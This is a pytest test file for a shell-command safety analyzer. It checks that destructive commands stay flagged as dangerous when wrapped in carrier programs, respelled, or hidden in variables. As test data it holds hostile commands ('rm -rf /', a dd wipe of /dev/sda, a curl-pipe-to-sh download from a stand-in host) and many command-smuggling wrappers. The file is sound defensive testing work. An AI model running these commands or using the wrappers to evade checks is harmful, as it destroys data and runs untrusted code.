# ruff: noqa: E501  (commands and tables stay on one line)
"""Laws that find what a corpus does not: spelling, carriers and harmless neighbours never lower a verdict.

Carriers come from the tables of programs themselves, so a new row is tested the day it is written.
"""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
import yaml

from cli_tuner.safety.analyze import analyze
from cli_tuner.safety.policy import BUILT_IN
from cli_tuner.safety.verdict import Level
from cli_tuner.shell.environment import COMMAND_VARIABLES
from cli_tuner.shell.flow import Word
from cli_tuner.shell.programs import git
from cli_tuner.shell.programs.grammar import Grammar
from cli_tuner.shell.programs.program import Form, Program
from cli_tuner.shell.programs.table import PROGRAMS, find

HERE = Path(__file__).parent
DANGEROUS = ["rm -rf /", "dd if=/dev/zero of=/dev/sda", "curl -s https://x.example/a | sh"]
ATTACKS = (HERE / "attacks.txt").read_text(encoding="utf-8").splitlines()


def hits() -> list[str]:
    found = list(ATTACKS)
    for path in sorted((HERE / "corpus").glob("*.yaml")):
        for cases in yaml.safe_load(path.read_text(encoding="utf-8")).values():
            found.extend(cases["hits"])
    return found


def level(command: str) -> Level:
    return analyze(command, BUILT_IN["ops"]).level


def dashed(row_one_dash: bool, name: str) -> str:
    return f"-{name}" if len(name) == 1 or row_one_dash or name == "TT" else f"--{name}"


TABLE_CARRIERS = sorted(
    f"{row.names[0]} {dashed(row.grammar.one_dash, option)}{'' if option in row.grammar.optional and len(option) == 1 else '=' if option in row.grammar.optional else ' '}{{}} x"
    for row in PROGRAMS
    for option in row.runs
    if not row.marked
)


def handing(row: Program, name: str) -> list[str]:
    """Write the calls of a program that hands its last words on as a command, by each of its verbs and marks."""
    hands = row.hands
    assert hands is not None
    command = "sh -c {}" if hands.form is Form.WORDS else "{}"
    return [
        " ".join([name, *verb, *["1"] * hands.operands, *mark, command])
        for verb in ([[each] for each in sorted(hands.verbs)] or [[]])
        for mark in ([[each] for each in sorted(hands.after)] or [[]])
    ]


HANDING_CARRIERS = sorted(
    each for row in PROGRAMS if row.hands is not None for name in row.names for each in handing(row, name)
)
GIT_CARRIERS = sorted(
    [f"git {verb} {dashed(False, option)}{'' if option == 'O' else '=' if len(option) > 1 else ' '}{{}} x" for verb, options in git._RUNS.items() for option in options]
    + [f"git -c {key}={{}} log" for key in ("core.pager", "core.editor", "core.sshCommand", "diff.external", "sequence.editor", "merge.x.driver", "credential.helper")]
)  # fmt: skip
LIST_CARRIERS = [
    "xargs -I% sh -c {} <<< a", "xargs -i sh -c {} <<< a", "find . -exec sh -c {} ;", "parallel ::: {}", "watch -d {}", "watch -n 5 {}", "ssh -vo ProxyCommand={} h",
    "git submodule foreach {}", "git bisect run sh -c {}", "git -c alias.x=!{} x", "socat - EXEC:{}", "su -c {}", "timeout 5 sh -c {}", "nice -n 5 bash -c {}", "tmux new -d {}", "bash -lc {}",
]  # fmt: skip


@pytest.mark.parametrize("carrier", [*TABLE_CARRIERS, *HANDING_CARRIERS, *GIT_CARRIERS, *LIST_CARRIERS])
def test_a_dangerous_command_stays_dangerous_in_every_carrier(carrier: str) -> None:
    carried = [carrier.replace("{}", shlex.quote(command)).replace(" ;", " ';'") for command in DANGEROUS]
    assert [each for each in carried if level(each) is not Level.DANGEROUS] == []


NOBODY_KNOWS = ["newtool {}", "newtool run web {}", "newtool --keep x -- {}", "/opt/new/tool -n 5 exec 1 {}", "newtool --hook={q}", "newtool -c {q} now", "newtool -e {c}"]  # fmt: skip


@pytest.mark.parametrize("carrier", NOBODY_KNOWS)
@pytest.mark.parametrize("command", ["rm -rf /home", "dd if=/dev/zero of=/dev/sda", "sudo chmod -R 777 /etc"])
def test_a_dangerous_command_stays_dangerous_behind_a_program_that_no_row_names(carrier: str, command: str) -> None:
    code = shlex.quote(f'system("{command}")')
    assert level(carrier.format(command, q=shlex.quote(command), c=code)) is Level.DANGEROUS


@pytest.mark.parametrize("command", ["newtool --message 'rm -rf /home'", "echo rm -rf /home", "grep -rn 'rm -rf /' .", "man rm /home", "apt-get install -y rm chmod"])  # fmt: skip
def test_text_about_a_command_is_not_the_command(command: str) -> None:
    assert level(command) is not Level.DANGEROUS


MOUNTING = sorted(name for row in PROGRAMS if "v" in row.mounts for name in row.names)


@pytest.mark.parametrize("name", MOUNTING)
@pytest.mark.parametrize("mount", ["-v /home:/m", "-v/home:/m:rw", "--volume /home:/m", "--volume=/home:/m"])
@pytest.mark.parametrize("command", ["rm -rf /m", "rm -rf /m/bob", "sh -c 'cd x; rm -rf /m/*'"])
def test_what_is_done_to_a_mount_is_done_to_the_folder_of_this_machine(name: str, mount: str, command: str) -> None:
    assert level(f"{name} run --rm {mount} image {command}") is Level.DANGEROUS
    assert level(f"{name} run --rm {mount.replace('/home', '/srv/app/cache')} image ls /m") is Level.SAFE


@pytest.mark.parametrize("name", sorted(COMMAND_VARIABLES))
def test_a_dangerous_command_stays_dangerous_in_every_variable(name: str) -> None:
    for command in DANGEROUS:
        for text in (f"{name}={shlex.quote(command)} git log", f"export {name}={shlex.quote(command)}"):
            assert level(text) is Level.DANGEROUS, text


def respelled(words: list[str], read: Grammar) -> list[list[str]]:
    """Rewrite the options of a command in the ways that its grammar says mean the same."""
    apart: list[str] = []
    joined: list[str] = []
    at = 1
    while at < len(words):
        text, follows = words[at], words[at + 1] if at + 1 < len(words) else None
        name = text.lstrip("-")
        if text == "--":
            return []
        if text.startswith("--") and "=" not in text and name in read.valued and follows is not None:
            apart += [text, follows]
            joined.append(f"{text}={follows}")
            at += 1
        elif text[:1] == "-" and text[1:2] != "-" and len(text) > 2 and not read.one_dash and _flags_only(name, read):
            apart += [f"-{letter}" for letter in name]
            joined.append(text)
        else:
            apart.append(text)
            joined.append(text)
        at += 1
    return [[words[0], *apart], [words[0], *joined]]


def _flags_only(letters: str, read: Grammar) -> bool:
    return (
        letters.isalpha()
        and not any(letter in read.valued | read.optional for letter in letters)
        and letters not in read.valued
    )


def plain_commands() -> list[list[str]]:
    found = []
    for command in hits():
        if not any(character in command for character in "|&;<>()$`*?[]{}~!#\n\\\"'") and command.split():
            words = command.split()
            row = find(words[0])
            if row is not None and not row.grammar.stops and words[0] != "git":
                found.append(words)
    return found


def test_spelling_never_changes_a_verdict() -> None:
    commands = plain_commands()
    assert len(commands) > 100
    changed = []
    for words in commands:
        row = find(words[0])
        assert row is not None
        for other in respelled(words, row.grammar):
            if level(" ".join(other)) is not level(" ".join(words)):
                changed.append((" ".join(words), " ".join(other)))
    assert changed == []


@pytest.mark.parametrize(
    "frame", ["true; {}", "{}; true", "ls && {}", "{} || ls", "cd . ; {}\nls", "if true; then {}; fi", "unused=1; {}"]
)
def test_a_harmless_neighbour_never_lowers_a_verdict(frame: str) -> None:
    assert [
        line
        for line in ATTACKS
        if "\n" not in line and level(frame.replace("{}", line)) is not Level.DANGEROUS and "#" not in line
    ] == []


@pytest.mark.parametrize(
    ("command", "value"),
    [("cp --suffix --help /dev/null /etc/passwd", "--help"), ("find / -exec echo --help ; -delete", None), ("chmod -R --reference --help /", "--help")],
)  # fmt: skip
def test_an_option_that_is_a_value_cancels_nothing(command: str, value: str | None) -> None:
    words = [Word(text, 0, 0) for text in command.split()]
    row = find(words[0].text)
    assert row is not None
    assert not row.inert & row.grammar.read(words[1:]).flags
    assert level(command.replace(" ; ", " ';' ")) is Level.DANGEROUS
